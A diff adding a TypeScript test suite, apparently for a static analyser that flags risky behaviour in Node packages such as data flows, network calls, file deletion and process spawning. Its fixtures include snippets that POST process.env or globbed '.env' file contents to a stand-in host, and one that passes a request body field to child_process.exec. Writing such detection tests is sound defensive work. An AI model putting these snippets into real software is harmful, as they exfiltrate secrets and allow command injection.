@@ -1,0 +1,159 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';
+
+const SENT = 'process.env → fetch as content';
+const POST = `fetch('https://a.invalid', { method: 'POST', body: b })`;
+type Files = Readonly<Record<string, string | object>>;
+
+const lines = (files: Files): string[] => behaviourOf(files).effects.map(lineOf);
+const flows = (files: Files): string[] => behaviourOf(files).flows.map(flow => `${flow.from.api} → ${flow.to.api} as ${flow.as}`);
+
+describe('a class that others extend', () => {
+  const base = `exports.Base = class { go() { const b = this.collect(); ${POST} } }`;
+  const own = (name: string): string =>
+    `const { Base } = require('./base'); exports.Own = class extends Base { ${name}() { return process.env; } }`;
+  it('calls what they have', () =>
+    assert.deepEqual(
+      flowLines({ 'index.js': `const { Own } = require('./own'); new Own().go()`, 'own.js': own('collect'), 'base.js': base }),
+      [SENT],
+    ));
+  it('at the time at which they are made', () =>
+    assert.ok(
+      lines({
+        'index.js': `const { Own } = require('./own'); [new Own()].forEach(one => one.go())`,
+        'own.js': own('collect'),
+        'base.js': base,
+      }).includes('import connects fetch(https://a.invalid)'),
+    ));
+  it('not what they have under another name', () =>
+    assert.deepEqual(
+      flowLines({ 'index.js': `const { Own } = require('./own'); new Own().go()`, 'own.js': own('gather'), 'base.js': base }),
+      [],
+    ));
+});
+
+describe('what files share', () => {
+  for (const [what, write, read] of [
+    ['by a member of a global', 'global.d = {}; global.d.x = process.env', 'global.d.x'],
+    ['by process', 'process.d = process.env', 'process.d'],
+  ] as const)
+    it(what, () => assert.deepEqual(flowLines({ 'index.js': `${write}; require('./b')`, 'b.js': `const b = ${read}; ${POST}` }), [SENT]));
+  it('what a page keeps in its window is not followed', () =>
+    assert.deepEqual(
+      flowLines({ 'index.js': `window.d = require('fs').readFileSync('/x'); require('./b')`, 'b.js': `const b = window.d; ${POST}` }),
+      [],
+    ));
+  it('by a class that tells what it has', () =>
+    assert.deepEqual(
+      flowLines({
+        'index.js': `const { R } = require('./r'); const r = new R(); r.on('ready', b => { ${POST} }); r.load()`,
+        'r.js': `const { EventEmitter } = require('events'); exports.R = class extends EventEmitter { load() { this.emit('ready', process.env); } }`,
+      }),
+      [SENT],
+    ));
+});
+
+describe('steps in tables of data', () => {
+  it('one text of each row', () =>
+    assert.deepEqual(
+      lines({
+        'index.js': `for (const t of require('./t.json')) require('fs').unlinkSync('/tmp/' + t.file)`,
+        't.json': [{ file: 'a' }, { file: 'b' }],
+      }),
+      ['import deletes fs.unlinkSync(/tmp/a | /tmp/b)'],
+    ));
+  it('several texts of each row, row by row', () =>
+    assert.deepEqual(
+      lines({
+        'index.js': `const row = require('./t.json')[process.platform]; require('child_process').execSync(row.shell + ' ' + row.line)`,
+        't.json': { win32: { shell: 'cmd', line: '/c x' }, linux: { shell: 'sh', line: 'y' } },
+      }).filter(line => line.includes('spawns')),
+      ['import spawns child_process.execSync(cmd /c x | sh y)'],
+    ));
+  it('a table in code, by a name that is not known', () =>
+    assert.deepEqual(
+      lines({
+        'index.js': `const t = { a: { f: '/x' }, b: { f: '/y' } }; for (const k of Object.keys(t)) { const { f } = t[k]; require('fs').unlinkSync(f) }`,
+      }),
+      ['import deletes fs.unlinkSync(/x | /y)'],
+    ));
+  it('a member that no row has tells nothing', () =>
+    assert.deepEqual(
+      lines({
+        'index.js': `for (const t of require('./t.json')) require('fs').unlinkSync('/tmp/' + t.other.name)`,
+        't.json': [{ file: 'a' }],
+      }),
+      ['import deletes fs.unlinkSync(/tmp/*)'],
+    ));
+});
+
+describe('folders of plug-ins', () => {
+  const plugin = `exports.go = () => fetch('https://a.invalid')`;
+  const load = (list: string): string => `const fs = require('fs'); const p = require('path'); ${list}`;
+  it('that are listed are loaded', () =>
+    assert.ok(
+      lines({
+        'index.js': load(`fs.readdirSync(p.join(__dirname, 'plugins')).forEach(f => require(p.join(__dirname, 'plugins', f)))`),
+        'plugins/a.js': `fetch('https://a.invalid')`,
+      }).includes('import connects fetch(https://a.invalid)'),
+    ));
+  it('that nothing lists are not', () =>
+    assert.ok(
+      !lines({ 'index.js': load(`module.exports = f => require(p.join(__dirname, 'plugins', f))`), 'plugins/a.js': plugin }).some(line =>
+        line.startsWith('import connects'),
+      ),
+    ));
+});
+
+describe('handlers in files of their own', () => {
+  it('are given the request', () =>
+    assert.equal(
+      behaviourOf({
+        'index.js': `const r = require('express').Router(); r.post('/x', require('./act').act); module.exports = r`,
+        'act.js': `exports.act = (q, s) => { require('child_process').exec(q.body.c); }`,
+      })
+        .effects.find(({ kind }) => kind === 'spawns')
+        ?.details.get('holds'),
+      'request',
+    ));
+  it('of whoever else calls them are given what that gives', () =>
+    assert.equal(
+      behaviourOf({
+        'index.js': `const { act } = require('./act'); module.exports = list => list.map(act)`,
+        'act.js': `exports.act = (q, s) => { require('child_process').exec(q.body.c); }`,
+      })
+        .effects.find(({ kind }) => kind === 'spawns')
+        ?.details.get('holds'),
+      undefined,
+    ));
+});
+
+describe('what is found or copied first', () => {
+  it('what is written to what a pattern finds is written there', () =>
+    assert.deepEqual(
+      lines({ 'index.js': `require('fast-glob').sync('/a/*/b.js').forEach(f => require('fs').writeFileSync(f, 'x'))` }).filter(line =>
+        line.includes('writes'),
+      ),
+      ['import writes file fs.writeFileSync(/a/*/b.js)'],
+    ));
+  it('a copy that is read is what it was made of', () =>
+    assert.ok(
+      lines({
+        'index.js': `const fs = require('fs'); fs.copyFileSync('/home/a/secret', '/tmp/copy'); fs.readFileSync('/tmp/copy')`,
+      }).includes('import reads file fs.readFileSync(/home/a/secret)'),
+    ));
+  it('another file is not', () =>
+    assert.ok(
+      lines({
+        'index.js': `const fs = require('fs'); fs.copyFileSync('/home/a/secret', '/tmp/copy'); fs.readFileSync('/tmp/other')`,
+      }).includes('import reads file fs.readFileSync(/tmp/other)'),
+    ));
+  it('what goes through a function of the file for each that is found', () =>
+    assert.ok(
+      flows({
+        'index.js': `(async () => { const b = (await require('globby')('**/.env')).map(p => [p, require('fs').readFileSync(p)]); ${POST} })()`,
+      }).includes('fs.readFileSync → fetch as content'),
+    ));
+});
